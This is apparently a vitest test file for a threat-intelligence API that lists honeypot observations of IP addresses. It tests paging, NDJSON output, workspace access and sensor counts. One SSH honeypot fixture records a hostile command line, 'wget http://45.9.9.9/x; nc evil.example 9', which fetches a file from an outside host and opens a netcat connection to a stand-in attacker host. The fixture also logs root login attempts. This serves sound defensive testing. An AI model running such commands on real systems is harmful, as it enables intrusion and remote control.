import type { Entitlement } from "@noisefloor/domain/access/caller.ts";
import { formatTimestamp } from "@noisefloor/domain/time/window.ts";
import { afterAll, beforeAll, expect, test } from "vitest";
import { z } from "zod";
import { seeded } from "../../support/builders/random.ts";
import { createWorld, makeTag, type World } from "../../support/worlds/world.ts";

const NOW = Date.parse("2026-11-20T14:30:00Z");
const DAY = 24 * 60 * 60 * 1000;
const IPS = ["45.0.0.1", "45.0.0.2"] as const;
const [IP] = IPS;
const PATH = `/v3/noise/ips/${IP}/observations`;
/** Whose they are; the sensor `roaming` writes to all of them. */
const OWNERS = [
  { dataset: "global", workspace_id: undefined },
  { dataset: "community", workspace_id: undefined },
  { dataset: "personal", workspace_id: "team-a" },
  { dataset: "personal", workspace_id: "team-b" },
];
const nameOf = ({ dataset, workspace_id }: (typeof OWNERS)[number]) => workspace_id ?? dataset;

const worm = makeTag("worm", "malicious");
const random = seeded(7);
/** A few share a millisecond; each has a path that no other has. */
const observations = Array.from({ length: 320 }, (_, n) => {
  const owner = random.pick(OWNERS);
  return {
    ...owner,
    observation_id: `seen-${n}`,
    source_ip: random.chance(0.7) ? IP : IPS[1],
    observed_at: new Date(NOW - (random.chance(0.4) ? random.int(0, 3) : random.int(0, 40 * DAY))).toISOString(),
    sensor_id: random.pick(["roaming", ...[1, 2, 3].map((number) => `${nameOf(owner)}-<${number}>`)]),
    http: { path: `/${n}` },
  };
});

let world: World;
beforeAll(async () => {
  world = await createWorld(() => NOW);
  await world.addTags([worm]);
  const ofManySensors = Array.from({ length: 120 }, (_, n) => ({
    source_ip: "45.0.0.9",
    observed_at: new Date(NOW - n).toISOString(),
    sensor_id: `s-${String(n).padStart(3, "0")}`,
  }));
  expect((await world.store([...observations, ...ofManySensors])).rejected).toEqual([]);
  // What arrives twice is one observation.
  await world.store(observations.slice(0, 60));
});
afterAll(() => world.close());

const pageSchema = z.object({
  ip: z.string(),
  observations: z.array(
    z.looseObject({
      observed_at: z.string(),
      dataset: z.string(),
      sensor_id: z.string().optional(),
      http: z.object({ path: z.string() }),
    }),
  ),
  cursor: z.string(),
});

async function readAll(query: string, headers: Record<string, string>) {
  const listed: z.infer<typeof pageSchema>["observations"] = [];
  let cursor = "";
  do {
    const { status, body } = await world.get(`${PATH}?${query}&cursor=${cursor}`, headers);
    expect(status).toBe(200);
    const page = pageSchema.parse(body);
    listed.push(...page.observations);
    cursor = page.cursor;
  } while (cursor !== "");
  return listed;
}

test.each([9, 1000])("pages of %i list each observation of the address once, newest first", async (limit) => {
  const listed = await readAll(`limit=${limit}`, {});
  const expected = observations.filter((one) => one.source_ip === IP && one.dataset === "global");
  expect(listed.map(({ http }) => http.path).toSorted()).toEqual(expected.map(({ http }) => http.path).toSorted());
  const times = listed.map(({ observed_at }) => observed_at);
  expect(times).toEqual(times.toSorted().reverse());
  for (const { http, observed_at, dataset } of listed) {
    const stored = expected.find((one) => one.http.path === http.path);
    expect({ observed_at, dataset }).toEqual({ observed_at: stored?.observed_at, dataset: "global" });
  }
});

test("as NDJSON a page is the same observations a line, and its cursor a header", async () => {
  const { body } = await world.get(`${PATH}?limit=50`, {});
  const { observations: listed, cursor } = pageSchema.parse(body);
  const answer = await world.app.inject({ url: `${PATH}?limit=50&format=ndjson` });
  expect([answer.statusCode, answer.headers["content-type"]]).toEqual([200, "application/x-ndjson; charset=utf-8"]);
  expect(answer.headers["next-cursor"]).toBe(cursor);
  const [end, ...lines] = answer.body.split("\n").reverse();
  expect(end).toBe("");
  expect(lines.reverse().map((line) => JSON.parse(line))).toEqual(listed);
  const last = await world.app.inject({ url: `${PATH}?limit=1000&format=ndjson` });
  expect([last.headers["next-cursor"], last.body.trim().split("\n").length]).toEqual([
    undefined,
    observations.filter((one) => one.source_ip === IP && one.dataset === "global").length,
  ]);
  const none = await world.app.inject({ url: "/v3/noise/ips/45.0.9.9/observations?format=ndjson" });
  expect([none.statusCode, none.body]).toEqual([200, ""]);
});

test("a workspace reads its own, with their sensors, and nothing of another workspace", async () => {
  const key = await world.addCaller("unlimited", ["community_dataset"], "team-a");
  const listed = await readAll("limit=20&workspace_labels=global,community,personal", { key });
  const expected = observations.filter((one) => one.source_ip === IP && one.workspace_id !== "team-b");
  expect(listed).toHaveLength(expected.length);
  for (const { http, sensor_id } of listed) {
    const stored = expected.find((one) => one.http.path === http.path);
    expect(sensor_id).toBe(stored?.dataset === "personal" ? stored.sensor_id : undefined);
  }
});

test("the sensors of the shared datasets are named to those who may know them", async () => {
  const key = await world.addCaller("unlimited", ["sensors"], "team-c");
  const [first] = await readAll("limit=1000", { key });
  expect(first?.sensor_id).toMatch(/^(?:roaming|global-)/);
});

test("an observation has what its sensor reported, in order, and says who gave each tag", async () => {
  const visit = {
    source_ip: "45.0.0.7",
    observed_at: "2026-11-20T14:00:00.250Z",
    sensor_id: "cowrie",
    session_id: "c0ffee",
    destination_port: 22,
    transport: "tcp",
    application: "ssh",
    login_attempts: 2,
    credentials: [{ username: "root" }, { username: "root", password: "<b>" }],
    commands: ["uname -a", "", "wget http://45.9.9.9/x; nc evil.example 9", "uname -a"],
    ssh: { hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1" },
    tags: ["worm"],
  };
  expect((await world.store([visit])).rejected).toEqual([]);
  const { body } = await world.get("/v3/noise/ips/45.0.0.7/observations");
  expect(body).toEqual({
    ip: "45.0.0.7",
    observations: [
      {
        observed_at: "2026-11-20T14:00:00.250Z",
        dataset: "global",
        established: true,
        destination_port: 22,
        transport: "tcp",
        application: "ssh",
        login_attempts: 2,
        credentials: [
          { username: "root", password: "" },
          { username: "root", password: "<b>" },
        ],
        commands: ["uname -a", "", "wget http://45.9.9.9/x; nc evil.example 9", "uname -a"],
        callbacks: [
          { host: "45.9.9.9", port: 80, scheme: "http", path: "/x" },
          { host: "evil.example", port: 9, scheme: "tcp" },
        ],
        ssh: { hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1" },
        tags: [{ id: worm.id, slug: "worm", name: worm.name, intention: "malicious", given_by: "sensor" }],
      },
    ],
    cursor: "",
  });
});

test("large observations make short pages, and all of them are listed", async () => {
  const large = Array.from({ length: 200 }, (_, n) => ({
    source_ip: "45.0.0.8",
    observed_at: new Date(NOW - n).toISOString(),
    sensor_id: "s",
    http: { path: `/${n}` },
    commands: Array.from({ length: 50 }, () => "x".repeat(1_000)),
  }));
  expect((await world.store(large)).rejected).toEqual([]);
  const first = pageSchema.parse((await world.get("/v3/noise/ips/45.0.0.8/observations?limit=1000")).body);
  expect(first.observations.length).toBeGreaterThan(50);
  expect(first.observations.length).toBeLessThan(100);
  let [listed, { cursor }] = [first.observations.length, first];
  while (cursor !== "") {
    const path = `/v3/noise/ips/45.0.0.8/observations?limit=1000&cursor=${cursor}`;
    const page = pageSchema.parse((await world.get(path)).body);
    listed += page.observations.length;
    ({ cursor } = page);
  }
  expect(listed).toBe(200);
});

test("an address that was never seen has no observations, and a malformed cursor is an error", async () => {
  expect(await world.get("/v3/noise/ips/45.9.9.9/observations")).toEqual({
    status: 200,
    body: { ip: "45.9.9.9", observations: [], cursor: "" },
  });
  for (const cursor of ["x", "1-2", "99999999999999999-0123456789abcdef"]) {
    expect(await world.get(`${PATH}?cursor=${cursor}`)).toEqual({
      status: 400,
      body: { message: "Invalid parameter: cursor takes the cursor of a response" },
    });
  }
  expect((await world.get(`${PATH}?limit=0`)).status).toBe(400);
});

/** Counted one by one. */
function expectedSensors(ip: string, owners: readonly string[]) {
  const visible = observations.filter((one) => one.source_ip === ip && owners.includes(nameOf(one)));
  const sensors = [...new Set(visible.map(({ sensor_id }) => sensor_id))].map((sensor_id) => {
    const times = visible.filter((one) => one.sensor_id === sensor_id).map((one) => Date.parse(one.observed_at));
    return {
      sensor_id,
      first_seen: formatTimestamp(Math.min(...times)),
      last_seen: formatTimestamp(Math.max(...times)),
      observations: times.length,
    };
  });
  sensors.sort((a, b) => b.observations - a.observations || (a.sensor_id < b.sensor_id ? -1 : 1));
  return { ip, sensors, total_sensors: sensors.length };
}

test.each<[string, string, readonly Entitlement[], readonly string[]]>([
  ["those of its own data alone", "team-a", [], ["team-a"]],
  ["with `sensors` also those of the shared datasets", "team-b", ["sensors"], ["team-b", "global", "community"]],
  ["with another entitlement its own alone", "team-a", ["community_dataset"], ["team-a"]],
  [
    "with all entitlements none of another workspace",
    "team-c",
    ["community_dataset", "sensors"],
    ["global", "community"],
  ],
  ["none when it has neither", "team-c", [], []],
])("of the sensors that saw an address a workspace sees %s", async (_what, workspaceId, entitlements, owners) => {
  const key = await world.addCaller("unlimited", entitlements, workspaceId);
  for (const ip of [...IPS, "45.9.9.9"]) {
    for (const query of ["", "?workspace_labels=global,community,personal"]) {
      const { status, body } = await world.get(`/v3/noise/ips/${ip}/sensors${query}`, { key });
      expect([status, body]).toEqual([200, expectedSensors(ip, owners)]);
    }
  }
});

test("of many sensors the 100 with the most observations are named, and all are counted", async () => {
  const key = await world.addCaller("unlimited", ["sensors"]);
  const { body } = await world.get("/v3/noise/ips/45.0.0.9/sensors", { key });
  expect(body).toMatchObject({ total_sensors: 120, sensors: { length: 100, 0: { sensor_id: "s-000" } } });
});

test("sensors are named to keys alone, each question is a lookup, and a bad address is named", async () => {
  const path = "/v3/noise/ips/45.0.0.1/sensors";
  expect(await world.get(path, {})).toMatchObject({ status: 403 });
  expect(await world.get(path, { key: "nf_unknown" })).toMatchObject({ status: 401 });
  expect(await world.get("/v3/noise/ips/10.0.0.1/sensors")).toMatchObject({ status: 400 });
  const key = await world.addCaller("standard");
  const left = async () => {
    const { headers } = await world.app.inject({ url: path, headers: { key } });
    return Number(headers["ratelimit-remaining"]);
  };
  expect((await left()) - (await left())).toBe(1);
});

test("an observation stored while pages are read changes no later page", async () => {
  const first = pageSchema.parse((await world.get(`${PATH}?limit=5`)).body);
  const before = (await world.get(`${PATH}?limit=5&cursor=${first.cursor}`)).body;
  await world.store([
    { source_ip: IP, observed_at: new Date(NOW).toISOString(), sensor_id: "s", http: { path: "/new" } },
  ]);
  expect((await world.get(`${PATH}?limit=5&cursor=${first.cursor}`)).body).toEqual(before);
});
